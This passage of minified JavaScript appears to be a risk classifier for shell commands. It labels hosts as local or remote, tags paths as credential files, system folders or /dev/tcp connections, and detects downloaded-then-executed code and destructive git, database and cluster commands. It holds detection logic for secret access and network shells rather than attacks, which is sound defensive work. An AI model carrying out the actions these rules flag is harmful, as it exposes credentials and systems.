""?t:`${e}/${t}`;return t===""||t==="\uFFFC"?void 0:Nf.posix.normalize(s)}var{forms:Hl}=S;function ii({text:t}){let e=Hl.host.exec(t.slice(0,2048))?.[1]?.toLowerCase();if(!(e===void 0||!(/[@:]/.test(t)||e.includes(".")||e==="localhost")))
return Hl.local_host.test(e)?"local":Hl.drop_host.test(e)?"drop":"remote"}var{fetchers:Df,network_clients:s0,copiers:r0}=S.programWords,n0=500,ai=class{paths=new Set;record(e){let{program:s,args:r,folder:n}=e,[o,i]=r0.has(s)?r.filter(
({text:l})=>!l.startsWith("-")):[],a=o&&i&&this.has(o.text,n)?[i]:[];for(let{text:l}of[...o0(e),...a]){let c=Lf(l,n);c!==void 0&&this.paths.add(c),this.paths.size>
n0&&this.paths.delete(this.paths.values().next().value)}}has(e,s){let r=Lf(e,s);return r!==void 0&&this.paths.has(r)}},Nr=({program:t})=>Df.has(t),jf=({program:t})=>Df.
has(t)||s0.has(t);function o0(t){let e=t.redirects.filter(({kind:n})=>n!=="read").map(({path:n})=>n);if(!Nr(t))return de(t).some(Nr)?t.program==="tee"?t.args.filter(
({text:n})=>!n.startsWith("-")):e:[];let{operands:s}=_e(t.program,t.args),r=n=>!Ie(n)||(ii(n)??"local")!=="local";return s.some(r)?[...e,...dn(t)]:[]}var Lf=(t,e)=>t.
includes("\uFFFC")?void 0:oi(t,e?.text);ar();var{forms:Y}=S,Mf=t=>t.program==="git"&&f0(t)||p0(t)||l0(t)||u0(t)||c0(t)||d0(t)||i0(t)||a0(t);function i0({program:t,invocation:e,context:{invocations:s}}){let{
client:r,needs:n=[],wrappers:o,environment:i}=e;if(!/^(?:kubectl|helm)$/.test(t)||r!==void 0||o.length>0||"KUBECONFIG"in i)return!1;if(Y.local_cluster.test(ue(e)))
return!0;let a=n.find(c=>Y.cluster_creation.test(ue(c))),l=c=>Y.cluster_tool.test(c.program)&&!Y.other_cluster.test(ue(c));return a!==void 0&&s.slice(s.indexOf(
a)).every(l)}function a0({program:t,invocation:e,context:{invocations:s}}){let{client:r=e,needs:n=[]}=e;if(e.client===void 0&&!Y.database_client.test(t))return!1;
let o=` ${r.args.map(({text:m})=>m).join(" ")} `,i=[...o.matchAll(Y.server_place)].map(([,m,h])=>m??h),a=({text:m})=>!/\s/.test(m)&&/[/@:]/.test(m)&&!i.some(h=>m.
includes(h)),l=r.program.startsWith("my")&&!/ (?:-h ?|--host[= ])127\.0\.0\.1 | -S /.test(o),c=Object.keys(r.environment).some(m=>Y.place_variable.test(m)),d=s.
some(m=>Y.forwarding_program.test(m.program));if(i.length===0||l||c||d||Y.other_server.test(o)||r.args.some(a))return!1;let u=s.slice(0,Math.max(0,s.indexOf(e))).
filter(({wrappers:m})=>m.length===0),p=(m,h)=>Y.container_start.test(ue(m))&&ue(m).replace("-p 127.0.0.1:","-p ").includes(` -p ${h}:`),f=(m,h)=>!Y.usual_port.test(
h)&&Y.server_start.exec(`${ue(m)} `)?.[1]===h;return i.every(m=>m.startsWith("/")?u.some(h=>Y.server_program.test(h.program)):n.some(h=>p(h,m))||u.some(h=>f(h,m)))}
var Lr=t=>t.includes(S.uniqueMark);function l0({program:t,operands:e,invocation:s,context:{invocations:r}}){let n=s.args.map(({text:c})=>c),o=n.filter(Lr),i=e.findIndex(
({text:c})=>Lr(c)),a=i<3&&(i===-1||e.slice(i).every(({text:c})=>Lr(c)));if(t==="kubectl"||o.length===0||!a||i===-1&&e.length>3)return!1;let l=(c,d)=>!Lr(c)||Y.naming_option.
test(c.startsWith("-")?c:n[d-1]??"");return i===-1&&!n.every(l)?!1:r.slice(0,Math.max(0,r.indexOf(s))).some(c=>{let d=c.args.map(({text:f})=>f);return(d.some(f=>Y.
making_word.test(f))&&c.program===t&&!d.some(f=>Y.referring_word.test(f))||t==="dropdb"&&c.program==="createdb")&&(Y.name_maker.test(d.join(" "))||o.every(f=>d.
includes(f)))})}function c0({invocation:t,context:{invocations:e}}){let[,s]=Y.named_here.exec(ue(t))??[],r=e.some(i=>Y.context_change.test(ue(i))),n=Object.keys(
t.environment).some(i=>Y.compose_variable.test(i));if(s===void 0||t.wrappers.length>0||r||n)return!1;let[o=""]=s.split("/").slice(-1);return Y.test_thing.test(o)&&
Ff(o)}function d0({program:t,invocation:e,context:{invocations:s}}){let{environment:r,wrappers:n}=e,{GNUPGHOME:o,COMPOSE_PROJECT_NAME:i}=r;if(n.length>0||s.some(
l=>Y.brings_files.test(l.program)))return!1;let a=ue(e);return/^gpg2?$/.test(t)?o!==void 0&&Y.new_folder.test(o.text)&&!/ --ho/.test(a):Y.compose_down.test(a)&&
Lr(i?.text??Y.project_name.exec(a)?.[1]??"")}var Ff=t=>Y.scratch_name.test(t)&&!Y.kept_name.test(t);function u0({program:t,invocation:e,context:{invocations:s}}){
let[,r]=Y.git_abort.exec(ie(e.args).text)??[],n=s.slice(0,Math.max(0,s.indexOf(e))),o=a=>zl(a)&&a.args[0]?.text===r&&a.folder?.text===e.folder?.text,i=a=>a.args.
some(({text:l})=>Y.git_step.test(l));return t==="git"&&r!==void 0&&n.some(a=>o(a)&&!i(a))}function p0({program:t,invocation:e,context:{invocations:s}}){let r=S.
creations.get(t);if(!r)return!1;let[n,o]=Wf(e),[,i]=new RegExp(r.destroys).exec(n)??[],a=i!==void 0&&Y.new_folder.test(i),l=u=>Y.near_wrapper.test(u)||a&&Y.code_wrapper.
test(u);if(i===void 0||!e.wrappers.every(l))return!1;let c=Ff(i)||Lr(i)||Y.temporary_file.test(i),d=new RegExp(r.makes);return s.slice(0,Math.max(0,s.indexOf(e))).
some(u=>{let[p,f]=Wf(u),m=Y.makes_new.test(`${u.program} ${p}`),h=c||m&&!i.includes("\uFFFC")&&e.needs?.includes(u),g=u.program===r.maker&&d.exec(p)?.[1]===i;return h&&
g&&f===o})}function Wf(t){let{program:e,args:s,folder:r,environment:n,client:o,wrappers:i}=t,a=s.map(({text:h})=>h),{operands:l,options:c}=_e(e,s),d=c.filter(({
flag:h})=>h==="--name").map(({value:h})=>h.text),u=e==="git"?a:[...l.map(({text:h})=>h),...d],p=a.filter(h=>!u.includes(h)&&!Y.placeless_flag.test(h)),f=o?.args.
flatMap(({text:h})=>/\s/.test(h)?[]:[h]),m=[e==="git"?[]:p,r?.text,n,f,i];return[u.join(" "),JSON.stringify(m)]}function f0(t){let{environment:e,folder:s,args:r}=t.
invocation,[n=""]=t.operands.map(({text:l})=>l);if(n==="push")return m0(t);if(s===void 0||!Vf(s.text,t)||"GIT_DIR"in e||"GIT_WORK_TREE"in e)return!1;let o=t.context.
invocations.map(l=>ie(l.args).text);if(o.some(l=>/core\.worktree|^-\S*s\S* .* \/tmp\//i.test(l))||Object.values(e).some(({text:l})=>/core\.worktree/i.test(l)))return!1;
let i=Y.new_folder.test(s.text)&&t.invocation.language!=="shell",a=({program:l,redirects:c})=>Y.brings_files.test(l)||c.some(({path:d})=>/\.git$/.test(d.text));
return i&&!t.context.invocations.some(a)&&!o.some(l=>/worktree|git-?dir/i.test(l))?!0:S.programWords.tree_commands.has(n)?!r.some(({text:l})=>/^[/~]/.test(l)):Uf(
s.text,t)}function Vf(t,{context:{workspace:e,folder:s=e}}){let r=[e,s].some(n=>Bl(t,n)||Bl(n,t));return Y.temporary_file.test(t)&&!r}function m0(t){let{operands:e,
invocation:s,context:r}=t,[,n="origin"]=e.map(({text:l})=>l);if(Y.temporary_file.test(n))return!0;let i=r.invocations.filter(zl).map(({args:l})=>ie(l).text).some(
l=>Y.remote_setting.test(l)),a=s.folder?.text??"";return n==="origin"&&!i&&Vf(a,t)&&Uf(a,t,Y.temporary_file)}var Uf=(t,{context:e},s=/(?:)/)=>e.invocations.some(
r=>zl(r)&&Bl(t,h0(r,s))),zl=({program:t})=>t==="git",Bl=(t,e)=>e!==void 0&&`${t}/`.startsWith(`${e}/`);function h0({args:t,folder:e},s){let[r,n="",o]=_e("git",t).
operands.map(({text:i})=>i);if(r==="init")return[n,e?.text].find(i=>i!==void 0&&Y.new_folder.test(i));if(!(r!=="clone"||o===void 0||!s.test(n)))return o.startsWith(
"/")||e===void 0?o:`${e.text}/${o}`}var Hf="\0",g0=Se(t=>t.replaceAll("\\*",Hf).split("*").map(s=>s.replaceAll(Hf,"*")));function xn(t,e){if(!e.includes("*"))return t===e;let s=g0(e),[r,n]=[s[0],s.
at(-1)];if(s.length===1)return t===r;if(t.length<r.length+n.length||!t.startsWith(r)||!t.endsWith(n))return!1;let o=t.length-n.length,i=r.length;for(let a of s.
slice(1,-1)){let l=t.indexOf(a,i);if(l===-1||l+a.length>o)return!1;i=l+a.length}return!0}var pt=(t,e)=>e.some(s=>xn(t,s));var{ownData:$n,interpreters:b0,clients:y0,forms:Ft}=S;function zf(t){let{program:e,operands:s,invocation:r}=t,{client:n}=r;if(e==="sql")return n!==void 0&&(w0(t,
n)||Bf(n));if(Ft.http_client.test(e)){let o=s.filter(({text:a})=>/[/:]/.test(a)),i=({text:a})=>Ft.loopback.test(a)&&Ft.test_name.test(a);return o.length>0&&o.every(
i)}return Gl(r,$n.endpoints,o=>Ft.loopback.test(o))||Gl(r,$n.addresses,o=>Ft.passing_address.test(o))?!0:!y0.has(e)&&e!=="gsutil"&&Bf(r)}function Gl({args:t,environment:e},s,r){
let o=[...t.flatMap(({text:i},a)=>{let[,l,c="",d]=/^(--?)?([A-Za-z][\w-]*)(?:=([\s\S]*))?$/.exec(i)??[];return s.includes(c)&&(l!==void 0||d!==void 0)?[d??t[a+1]?.
text??""]:[]}),...s.flatMap(i=>e[i]?.text??[])];return o.length>0&&o.every(r)}var Bf=t=>Gl(t,$n.environments,e=>pt(e,$n.stages));function w0({operands:[t],context:e},{
program:s,args:r}){let n=b0.get(s),o=s.startsWith("mongo");if(!n||n.language!=="sql"&&!o)return!1;if(s==="clickhouse"&&r[0]?.text==="local"||s==="bq"&&r.some(({
text:g})=>g==="--dry_run"))return!0;let{options:i,operands:a}=W(r,n),l=M(i,...$n.databases).map(({text:g})=>g),c=e.invocations.flatMap(g=>g.program==="sql"&&g.args[0]?.
text==="attach"?[g.args[1]?.text??""]:[]),d=Ft.file_client.test(s),u=a[0]?.text??(d?":memory:":[]),p=[l,u,c].flat();if(p.length===0||o&&r.some(({text:g})=>/sibling|\buse\b|connect|mongo\(/i.
test(g)))return!1;let f=!o&&Ft.beyond_database.test(t?.text??""),m=g=>g.includes(S.uniqueMark)&&!r.some(({text:y})=>Ft.leaves_database.test(y))&&e.invocations.some(
y=>y.program==="createdb"&&y.args.some(({text:x})=>x===g)),h=g=>d&&Ft.passing_file.test(g)||!f&&(Ft.test_name.test(g)||m(g));return p.every(h)}ar();var{forms:li}=S,Kl=({environment:t})=>t.POSIXLY_CORRECT!==void 0;function Gf(t,e){let s=e.findIndex(({text:n})=>n==="--"),r=e.slice(0,s===-1?void 0:s);return!Kl(
t)&&!r.some(({text:n,bare:o})=>o&&n.startsWith("\uFFFC"))}function Kf(t,e,s){let r=v0(t,e);return!e.flags.some(n=>r.includes(n))||e.flags.some(n=>/^--no-(d|n$)/.
test(n)||t==="git"&&n==="--apply")||e.options.some(({flag:n,value:o})=>r.includes(n)&&!li.affirmative_value.test(o.text))?!1:s.every((n,o)=>{if(!k0(n,r))return!0;
let[,i]=/^-\w+=(.*)$/s.exec(n)??[];return i!==void 0&&!li.affirmative_value.test(i)?!1:!Yf(t,s,o)&&!li.negative_value.test(s[o+1]??"")})}function k0(t,e){if(t.startsWith(
"--"))return e.includes(t.split("=")[0]);let s=r=>r===t||/^-\w$/.test(r)&&t.includes(r[1]);return/^-\w/.test(t)&&e.some(s)}function Yf(t,e,s){let r=e[s-1]??"";return t===
"git"||!r.startsWith("-")||r.includes("=")?!1:r.startsWith("--")?r.length>2&&!S.switches.has(r):Cr(t)?.short===void 0&&!li.bare_letter.test(r)}function v0(t,{operands:e}){
let s=[t,...e.slice(0,3).map(({text:o})=>o)],n=s.map((o,i)=>s.slice(0,i+1).join(" ")).findLast(o=>S.dryRuns.has(o));return S.dryRuns.get(n??(S.clients.has(t)?"c\
lient":""))?.flags??[]}function Qf(t,e,s){let{flags:r,operands:n}=e,o=S.help;if(o.leading.has(t.replace(/^g/,"")))return/^--(?:help|version)$/.test(s[0]??"");if(o.
none.has(t)||s.some(c=>/^--?help=/.test(c)))return!1;let i=o.one_dash.has(t)?/^(?:--?help|-h)$/:/^--help$/;if(r.some(c=>i.test(c)))return s.some((c,d)=>i.test(c)&&
!Yf(t,s,d));if(s.length===1&&s[0]==="--version")return!0;if(!o.verbs.has(t)&&!S.clients.has(t))return!1;let[a,l]=n.map(({text:c})=>c);return a==="completion"&&/^(bash|zsh|fish|powershell|pwsh)$/.
test(l??"")?!0:a==="help"||t==="aws"&&n.at(-1)?.text==="help"}var{clients:x0,clientWords:Dr,forms:Xf}=S,$0=6;function Jf(t,{path:e,args:s}){let r=x0.get(t);if(!r||Xf.own_program.test(e)&&!Dr.project.has(t))return!1;let n=_e(
Cr(t)?t:"client",s).operands.slice(0,r.words??$0).map(({text:i})=>i),o=n.join(" ");if(r.spares?.some(i=>o===i||o.startsWith(`${i} `)))return!1;for(let i of n){if(!Xf.
subcommand_word.test(i))return!1;if(r.verbs?.some(c=>i===c||i.endsWith(`:${c}`)))return!0;let a=_0(i);if(Dr.others.has(i)||a.length>1&&Dr.others.has(`${a[0]}-`)||
Dr.local.has(i)){if(!r.nouns?.includes(i))return!1}else if(Dr.destroys.has(a[0])||Dr.destroys.has(a.at(-1)))return!0}return!1}function _0(t){return t.replace(/^.*[:.]/,
"").replace(/([a-z])([A-Z])/g,"$1-$2").toLowerCase().split(/[-_]/)}var Yl=[...cn,"names"];function Zf(t,e){let{program:s,subcommand:r,flags:n,options:o,args:i,recursive:a,root:l,via:c,environment:d,language:u}=e;if(s&&!pt(t.program,
s)||u&&!u.includes(t.invocation.language)||a!==void 0&&t.recursive!==a||l!==void 0&&t.root!==l||c&&!t.invocation.wrappers.some(f=>pt(f,c)))return!1;let p=r?S0(t,
r):0;if(p===void 0||n&&!A0(t,n)||o&&!Object.entries(o).every(([f,m])=>P0(t,f,m))||i&&!T0(t.operands.slice(p),i)||d&&!Object.entries(d).every(([f,m])=>R0(t,f,m)))
return!1;for(let f of Yl){let m=e[f];if(m&&!Ql(t.getPathClasses(f),m))return!1}return e.redirected!==void 0&&em(t,e)!==e.redirected||e.unknown&&!t.invocation.args.
some(({text:f})=>f.includes("\uFFFC"))||e.to&&!O0(t,e.to)||e.service_verb&&!Jf(t.program,t.invocation)||e.downloaded&&!t.downloaded||e.from&&!I0(t,e.from)?!1:!e.
line||q0(t.context.invocations)(e.line)}function em(t,{writes:e}){let s=t.getPathClasses("redirected");return e?Ql(s,e):s.size>0}var Ql=(t,e)=>e.some(s=>t.has(s)),
tm=Se(t=>t.split(" "));function S0({operands:t},e){for(let s of e){let r=tm(s);if(t.length>=r.length&&r.every((n,o)=>xn(t[o].text,n)))return r.length}}var C0=["\
subcommand","flags","options","args","names","to"],E0=["options","to"];function sm(t,e,s){let{program:r,operands:n}=t;return!e.program||!pt(r,e.program)||e.redirected===
!0&&!em(t,e)||!(s==="any"?C0:E0).some(o=>e[o]!==void 0)?!1:(e.subcommand??[""]).some(o=>tm(o).every((i,a)=>{let l=n[a];return i===""||l===void 0||l.text.includes(
"\uFFFC")||xn(l.text,i)}))}function A0({flags:t,invocation:e},{any:s,all:r,none:n}){return s&&!pe(t,...s)||r&&!r.every(o=>pe(t,o))?!1:!n||Kl(e)||!pe(t,...n)}function T0(t,{
any:e,none:s,at_least:r,at_most:n}){return r!==void 0&&t.length<r||n!==void 0&&t.length>n||e&&!t.some(({text:o})=>pt(o,e))?!1:!s||!t.some(({text:o})=>pt(o,s))}var P0=({
options:t},e,s)=>t.some(({flag:r,value:n})=>pe([r],e)&&pt(n.text,s)),R0=({invocation:t},e,s)=>Object.entries(t.environment).some(([r,{text:n}])=>xn(r,e)&&pt(n,s));
function I0({from:t},e){let{program:s,reads:r,without:n,operands_at_most:o=Number.POSITIVE_INFINITY}=e;return n&&t.some(i=>pt(i.program,n))?!1:t.some(i=>pt(i.program,
s)&&i.operands.length<=o&&(!r||Ql(i.getPathClasses("reads"),r)))}var q0=Se(t=>{let e=t.map(r=>ue(r).slice(0,2e3)),s=r=>e.some(n=>pt(n,r));return Se(({any:r,none:n})=>(!r||
s(r))&&!(n&&s(n)))},new WeakMap);function O0(t,e){let s=t.options.filter(({flag:r})=>/^--(?:(?:extra-)?index-)?url$|^--registry$/.test(r));return[...t.operands,
...s.map(({value:r})=>r)].some(r=>{let n=ii(r);return n===e||e==="remote"&&n==="drop"})}var{forms:_s}=S,N0=new RegExp(`(^|/)(${S.credentialStores})(/|$)`),L0=t=>S.pathWords.source_endings.has(/\.(\w+)$/.exec(t)?.[1]??"");function ci(t){let e=t.slice(
t.lastIndexOf("/")+1);return e.includes(" | ")?!1:/^\.env([.\-_].*)?$/.test(e)||/^[^.*]+\.env$/.test(e)?!_s.template.test(e):S.pathWords.credentials.has(e)?e!==
"environ"||t.startsWith("/proc/"):N0.test(t)||_s.memory.test(t)||_s.ssh.test(t)&&!_s.ssh_settings.test(t)?!0:/credentials?(?![a-z])/.test(e)?!L0(e)&&!_s.template.
test(e.replace(/\.\w+$/,"")):_s.credential_name.test(e)?!(_s.fixture_folder.test(t)&&_s.fixture_key.test(e)):/[*?[]/.test(e)&&j0(e)}var D0=6;function j0(t){if(t.
length>64)return!1;let e=t.replace(/\[[^\]]*\]|[*?]/g,"");if(!(/^[*]/.test(t)?e.replace(/^\.\w+$/,"").length>=3:e.length>=2)&&!(t===".*"||/^\.[?[]/.test(t)))return!1;
let r=t.replace(/[\\$.+(){}|]|(?<!\[)\^/g,"\\$&").replace(/\[!/g,"[^"),n=r.match(/\*+/g)?.length??0,o=$s(`^${r.replace(/\*+/g,".*").replace(/\?/g,".")}$`),i=S.credentialSamples.
filter(a=>!a.startsWith(".")||/^[.[]/.test(t));return n>D0||i.some(a=>o?.test(a))}function Xl(t,{workspace:e,folder:s}){let r=rm(t.replace(/^file:\/\/(localhost)?/,"")),n=rm(e);if(s!==void 0&&!/^[/~]/.test(r)&&!r.startsWith("\uFFFC")&&s!==".")
return Xl(s.endsWith("/")?`${s}${r}`:`${s}/${r}`,{workspace:n});let o="workspace",i=r;/^~/.test(r)?(o="home",i=r.replace(/^~[^/]*/,"")):r.startsWith("\uFFFC")?(o=
"unknown",i=r.replace(/^\u{FFFC}+/u,""),i!==""&&!i.startsWith("/")&&(i=`${"\uFFFC"}${i}`)):r.startsWith("/")&&(o="slash");let a=[],l=0;for(let d of i.split("/"))
d===""||d==="."||(d!==".."?a.push(d):a.length>0?a.pop():(o==="workspace"||o==="home")&&(o=o==="home"?"slash":"above"),d===".."&&o==="above"&&(l+=1));if(o==="abo\
ve"&&W0(l,a[0])&&(o="slash"),o==="slash"){let d=`/${a.join("/")}`,u=/^\/((?:[A-Za-z]:\/)?(?:root|(?:home|Users)(?:\/[^/]+)?))(\/|$)/.exec(d);d===n||d.startsWith(
`${n}/`)?(o="workspace",a.splice(0,n.split("/").filter(Boolean).length)):u&&(o="home",a.splice(0,u[1].split("/").length))}let c=!1;for(;a.length>0&&S.forms.whole_folder.
test(a.at(-1));)a.pop(),c=!0;return{from:o,parts:a,whole:c,inside:o==="unknown"&&i.startsWith("/")}}var rm=t=>t.replace(/^([A-Za-z]:)(?=[\\/]|$)/,"/$1").replaceAll(
"\\","/");function W0(t,e=""){let s=e.toLowerCase(),{root_folders:r,system_folders:n}=S.pathWords;return r.has(s)?t>=2:t>=4&&(n.has(s)||s==="home")}var{pathWords:jr,purposes:M0,forms:Vt}=S;function nm(t,e){if(t.text===""||t.text.length>4096)return new Set;let s=Xl(t.text,e),r=s.parts.map(i=>i.toLowerCase()),
n=`${s.from==="slash"?"/":""}${r.join("/")}`;if(/^\/dev\/(tcp|udp)\//.test(n))return new Set([Vt.local_connection.test(n)?"local-connection":"connection"]);if(/^\/dev\/(stdin|stdout|stderr|tty|fd(\/.*)?|pts\/.*)$/.
test(n))return new Set;if(/^\/dev\/(null|zero|full|random|urandom)$/.test(n))return new Set(/(zero|full|random)$/.test(n)?["nowhere","endless"]:["nowhere"]);let o=new Set(
[...K0(s.from,n,r),...F0(s,n,r)]);return ci(s.from==="home"?`~/${n}`:n)&&o.add("credentials"),r.at(-1)?.includes("credentials")&&o.add("credentials-by-name"),o}
function F0({from:t,whole:e,inside:s},r,n){let[o=""]=n;if(t==="slash"){if(Vt.temp.test(r))return[/^\/(private\/)?(tmp|var\/tmp|dev\/shm)$/.test(r)?"temp-root":"\
temp"];if(n.length===0)return["root"];if(Vt.package_cache.test(`${r}${e?"/":""}`))return["disposable"];if(Vt.local_system.test(r))return["local-system"];if(/^[a-z]:$/.
test(o))return V0(n.slice(1));if(jr.system_folders.has(o)||/[*?[{]|^(program files.*|windows)$/.test(o))return Vt.system_tree.test(U0(n))?["system","system-tree"]:
["system"]}return di(n)||(t==="workspace"||t==="unknown")&&n.some(B0)?["disposable"]:t==="unknown"?n.length>0?[]:[s?"unknown-folder":"unknown"]:t==="slash"?[n.length===
1?"workspace":"outside",...n.length<=3?["source"]:[]]:n.length===0?[t==="home"?"home":"workspace"]:t==="home"||t==="above"?[n.length===1||t==="home"&&jr.personal_folders.
has(o)?"personal":"outside"]:n.length===1&&o==="\uFFFC"?[e?"workspace":"unknown"]:n.length>2?["inner"]:jr.source_folders.has(o)||/[*?[{\u{FFFC}]/u.test(o)?["sou\
rce","source-folder"]:["source"]}function V0(t){let[e,...s]=t;return e===void 0?["root"]:Vt.windows_folder.test(e)?s.length===0?["system","system-tree"]:["syste\
m"]:di(s)?["disposable"]:[s.length===0?"workspace":"outside"]}function U0(t){let e=t.findLastIndex(s=>!/[*?[{\u{FFFC}]/u.test(s));return`/${t.slice(0,Math.max(1,
e+1)).join("/")}`}function H0(t){let[e,s]=/\[(\w{1,8})\]/.exec(t)??[];return e===void 0?[t]:[...s].map(r=>t.replace(e,r))}var B0=(t,e,s)=>(e>0?[`${s[e-1]}/${t}`,
.../^[._]/.test(t)?[t]:[]]:[t]).some(n=>jr.project_outputs.has(n));function di(t){if(t.includes(".git"))return/\.(lock|sample)$/.test(t.at(-1))||di(t.slice(0,t.
indexOf(".git")));let e=(s,r)=>r>0&&/^test[-_.].*\*/.test(s);return t.some((s,r)=>jr.disposable.has(s)||!e(s,r)&&H0(s).every(n=>Vt.disposable_name.test(n))||r>0&&
jr.disposable.has(`${t[r-1]}/${s}`)||Vt.package_store.test(s)&&t.length>r+1)}var z0=[...M0].map(([t,{form:e,home:s}])=>({name:t,home:s,form:new RegExp(e)}));function G0(t,e){
let s=e.findIndex(r=>/^\.\w/.test(r));return s===-1||Vt.temp.test(t)?"":`~/${e.slice(s).join("/")}`}function K0(t,e,s){let r=t==="home"?`~/${e}`:e,n=t==="slash"||
t==="unknown"?G0(e,s):r,i=z0.filter(({home:d,form:u})=>u.test(r)||d&&u.test(n)).map(({name:d})=>d),a=s.findIndex(d=>d===".git"||d===".hg"||d===".svn"),l=()=>t===
"slash"&&Vt.temp.test(e)||di(s.slice(0,a));return a===-1||/\.(lock|sample)$/.test(s.at(-1))||l()?i:/^(hooks|config|info|modules|config\.worktree)$/.test(s[a+1]??
"")?[...i,"vcs","vcs-config"]:[...i,"vcs"]}var{programWords:Jl,forms:Je}=S,om=t=>t.every(e=>Je.local_wrapper.test(e)),Y0=t=>t.startsWith("mongo")||S.interpreters.get(t)?.language==="sql",Ss=class t{constructor(e,s){
this.invocation=e;this.context=s;let{program:r,args:n}=e,o=r.startsWith("python")&&n[0]?.text==="-m"?n[1]?.text:void 0;this.program=o?.replace(/^awscli$/,"aws")??
X0(e);let i=or(e,s.invocations);this.isSupplied=i!==n,this.words=o===void 0?i:i.slice(2);let{flags:a,options:l,operands:c}=_e(this.program,this.words);this.flags=
a,this.options=l,this.operands=c}invocation;context;program;flags;options;operands;classCache={};affected;feeders;isSupplied;words;get recursive(){return this.isSupplied||
/^(find|rimraf|rsync|tar|zip)$/.test(this.program)||pe(this.flags,"-r","-R","--recursive","-Recurse")||this.operands.some(Q0)}get isContained(){let{wrappers:e}=this.
invocation,s=e.lastIndexOf($r);return s!==-1&&om(e.slice(s+1))}get isInOwnContainer(){let{wrappers:e,args:s,client:r,environment:n}=this.invocation;if(!e.includes(
_r))return!1;let i=[...Object.keys(r?.environment??n).map(l=>`${l}=`),...[...s,...r?.args??[]].map(({text:l})=>l)],a=e.slice(e.lastIndexOf(_r)+1).filter(l=>l!==
$r&&!Y0(l));return om(a)&&!i.some(l=>Je.other_place.test(l))}get root(){return this.invocation.wrappers.some(e=>Jl.root_wrappers.has(e))}get downloaded(){let{program:e,
operands:s,invocation:r}=this,{path:n,folder:o,wrappers:i,input:a}=r,{downloads:l,fetched:c}=this.context;if(n.includes("://")||n.includes("/")&&l.has(n,o))return!0;
let d=im(e);return d&&s.slice(0,1).some(({text:p})=>l.has(p,o))?!0:!(c||de(r).some(jf))||Nr(r)?!1:e==="\uFFFC"?i.some(p=>im(p)||p==="eval"):!d&&e!=="eval"?!1:[...s,
...this.options.map(({value:p})=>p)].some(({text:p})=>p.trim()==="\uFFFC"||p.startsWith("/dev/fd/"))||a?.kind==="text"&&a.text.includes("\uFFFC")&&s.length===0}get purpose(){
if(!Gf(this.invocation,this.words))return;let e=this.words.map(({text:s})=>s);return Qf(this.program,this,e)?"help":Kf(this.program,this,e)?"dry-run":void 0}get redirections(){
let{redirects:e,language:s,folder:r}=this.invocation,n=Et(":",[],e,r);return new t({...n,language:s},this.context)}get from(){this.feeders??=de(this.invocation).
map(n=>new t(n,this.context));let e=this.feeders.findLastIndex(n=>n.program==="cut"&&n.printsNames),s=de(this.feeders[e]?.invocation??{});return e>0&&this.feeders.
slice(0,e).every(({invocation:n})=>s.includes(n))?this.feeders.slice(e):this.feeders}get hasUnreadPath(){let e=this.invocation.folder?.text??"";return cn.some(s=>this.
selectPaths(s).some(({text:r})=>je(e+r)))}get printsNames(){if(/^(?:grep|rg)$/.test(this.program)&&(this.flags.some(r=>Je.counting_flag.test(r))||!this.invocation.
captured&&this.consumers.every(({program:r})=>Je.counter.test(r))&&this.flags.some(r=>Je.listing_flag.test(r))))return!0;let e=[this.program,...this.words.map(({
text:s})=>s),this.invocation.filter?.code??""];return Je.printing_names.test(e.join(" ").trimEnd())}get consumers(){return this.context.invocations.filter(e=>de(
e).includes(this.invocation))}get isMasked(){let{invocation:e,consumers:s}=this,r=c=>Je.line_filter.test(ue(c))&&c.redirects.every(({kind:d,path:u})=>d==="read"||
u.text==="/dev/null"),n=s.find(c=>new t(c,this.context).printsNames);if(n===void 0||e.captured)return!1;let o=(c,d)=>de(d).includes(c),i=s.filter(c=>!o(n,c));if(i.
some(c=>c!==n&&!o(c,n))||e.wrappers.length>0)return!1;let a=this.selectPaths("reads");return(Je.secret_listing.test(this.program)?n.program==="jq"&&!this.words.
some(({text:c})=>/^-v|^--v=/.test(c)):n.program!=="jq"&&(a.length>0?a.every(({text:c})=>Je.settings_file.test(c)):this.words.length===0||this.from.length>0))&&[
e,...i.filter(c=>c!==n)].every(r)}nameHandedOver(e,s){if(!s.has("credentials"))return s;let r=[...s].filter(p=>p!=="credentials");if(e==="reads"&&this.printsNames)
return new Set(r);if([...s].every(p=>p==="temp"||p.startsWith("credentials"))&&s.has("temp")&&(e!=="reads"||this.isOfNewFolder(e)))return new Set(r);let o=this.
operands.map(({text:p})=>p),i=Je.text_filter.test(this.program)&&this.invocation.redirects.find(({kind:p})=>p==="write"),a=i?`${e} cp ${o.at(-1)} ${i.path.text}`:
`${e} ${this.program} ${o.join(" ")}`;if(Je.sourcing.test(a))return new Set([...r,"handed-over"]);if(!Je.copying.test(a))return s;let{invocations:l}=this.context,
c=i?i.path.text:o.at(-1),d=p=>Je.file_test.test(ue(p))&&p.args.some(({text:f})=>f===c),u=this.invocation.needs?.some(p=>d(p)&&!p.args.some(({text:f})=>f==="!"));
return new Set(l.some(d)&&!u?r:[...r,"from-template"])}isOfNewFolder(e){let{folder:s,invocations:r}=this.context,n=this.invocation.folder?.text??s??"",o=({text:i})=>Je.
in_new_folder.test(i.startsWith("/")?i:`${n}/${i}`);return this.selectPaths(e).every(o)&&!r.some(({program:i})=>Je.brings_files.test(i))}getPathClasses(e){let s=this.
classCache[e];if(s)return s;let{workspace:r,folder:n}=this.context,o={workspace:r,folder:this.invocation.folder?.text??n},i=this.selectPaths(e).flatMap(c=>[...nm(
c,o)]),a=this.isContained?i.filter(c=>c==="credentials"):i,l=this.nameHandedOver(e,new Set(a));return this.classCache[e]=l,l}selectPaths(e){let{program:s,args:r,
redirects:n,input:o}=this.invocation,i=n.flatMap(({kind:c,path:d})=>c==="read"?[]:[d]);if(e==="redirected")return i;if(e==="names")return s==="find"?kn(r):this.
operands;this.affected??=vn(this.program,this);let a=this.affected[e];if(e==="writes")return[...a,...i];if(e==="deletes")return Fl(a,this.invocation,this.context.
invocations);if(e!=="reads")return a;let l=n.flatMap(({kind:c,path:d})=>c==="read"?[d]:[]);return[...a,...l,...o?.kind==="file"?[o.path]:[]]}},Q0=({text:t,glob:e})=>e&&
/(?:^|\/)\*\*(?:\/|$)/.test(t);function X0({program:t,path:e,wrappers:s}){if(t==="k")return"kubectl";let r=Je.package_runner.test(s.at(-1)??"");return Jl.machine_programs.
has(t)&&(r||/^[^/~]+\//.test(e))?`./${t}`:(r?t.replace(/(?<=.)@[\w.^~-]+$/,""):t).replace(/\.exe$/i,"").replace(/^(python|pip|ruby|perl|php|node|lua)[\d.]+$/,"$\
